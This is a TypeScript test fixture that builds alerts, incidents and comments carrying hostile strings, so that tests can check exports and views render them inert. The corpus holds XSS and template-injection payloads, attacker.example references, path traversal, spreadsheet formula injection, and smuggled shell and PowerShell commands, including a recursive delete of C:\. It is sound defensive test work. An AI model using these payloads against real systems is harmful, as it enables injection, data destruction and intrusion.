// Hostile payloads from peer CVEs (SECURITY-NOTES §G), for unit and e2e tests: every one must stay inert text in
// every export and view. Exported so e2e tests reuse exactly the same strings.
import type { Alert, Comment, Entity, Incident } from '#shared/model/index';

export const HOSTILE_STRINGS: readonly string[] = [
  '<img src=x onerror=window.__xss=1>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '&#x3C;img src=x onerror=window.__xss=1&#x3E;',
  '<IMG SRC=x OnErRoR=window.__xss=1>',
  '"><svg onload=window.__xss=1>',
  "'><svg onload=window.__xss=1>",
  '</title><script>window.__xss=1</script>',
  '</style><script>window.__xss=1</script>',
  '<a href="javascript:window.__xss=1">x</a>',
  '{{constructor.constructor(\'window.__xss=1\')()}}',
  '${7*7}',
  '#{7*7}',
  'javascript:window.__xss=1',
  'jav&#x09;ascript:window.__xss=1',
  'data:text/html,<script>window.__xss=1</script>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel=stylesheet href=https://attacker.example/x.css>',
  'url(https://attacker.example/x.png)',
  '\\\\attacker\\share\\a.js',
  'file:///C:/Windows/System32/calc.exe',
  'search-ms:query=x',
  '../../../../etc/passwd',
  '..\\..\\Windows\\win.ini',
  'invoice\u202Efdp.exe',
  'zero\u200Bwidth\u200D joiner\uFEFF',
  'lone \ud800 surrogate',
  'nul\u0000byte',
  'esc\u001b[31mred',
  '=HYPERLINK("http://x/?"&A1,"x")',
  '@SUM(1+1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '```\n# heading\n[link](javascript:alert(1))\n![img](https://attacker.example/x.png)',
  '<https://attacker.example/>',
  '*emph* _under_ | pipe | ~~strike~~',
  "O'Brien\u2019s '; Remove-Item C:\\ -Recurse; '",
  '$(touch /tmp/pwned)`id`',
  '__proto__',
  'constructor',
];

/** 1 MB strings (huge fields must be truncated, never break the layout or the budget). */
export const HUGE_STRING = 'A'.repeat(1024 * 1024);
export const HUGE_HOSTILE = '<img src=x onerror=window.__xss=1>'.repeat(32 * 1024);

export const hostileCorpus = (): string[] => [...HOSTILE_STRINGS, HUGE_STRING, HUGE_HOSTILE];

/** An alert whose every string field (and every entity value/prop) carries the payload. */
export const hostileAlert = (base: Alert, payload: string, n: number): Alert => {
  const entities: Entity[] = (['device', 'account', 'ip', 'url', 'domain', 'file', 'process', 'mailbox', 'mailMessage'] as const).map((type) => ({
    type,
    value: payload,
    roles: ['compromised'],
    props: {
      hostName: payload, upn: payload, accountName: payload, sid: payload, commandLine: payload, filePath: payload,
      directory: payload, sha256: payload, md5: payload, sender: payload, recipient: payload, subject: payload, displayName: payload,
    },
  }));
  return {
    ...base,
    id: `${base.id}-h${n}` as Alert['id'],
    source: payload,
    product: payload,
    sourceAlertId: payload,
    detectorId: payload,
    title: payload,
    description: payload,
    remediation: [payload, `1. ${payload}`],
    entities,
    raw: payload,
    timeNote: { original: payload, assumedZone: payload },
    techniques: [...base.techniques],
  };
};

export const hostileIncident = (base: Incident, payload: string): Incident => ({
  ...base,
  title: payload,
  customTitle: payload,
  assignedTo: payload,
  tags: [payload, 'ok'],
  sources: [payload],
  impactedAssets: [{ key: payload as Incident['impactedAssets'][number]['key'], type: 'device', value: payload, alertCount: 1 }],
});

export const hostileComment = (targetId: string, payload: string, at: number): Comment => ({ targetId, at, by: payload, text: payload });
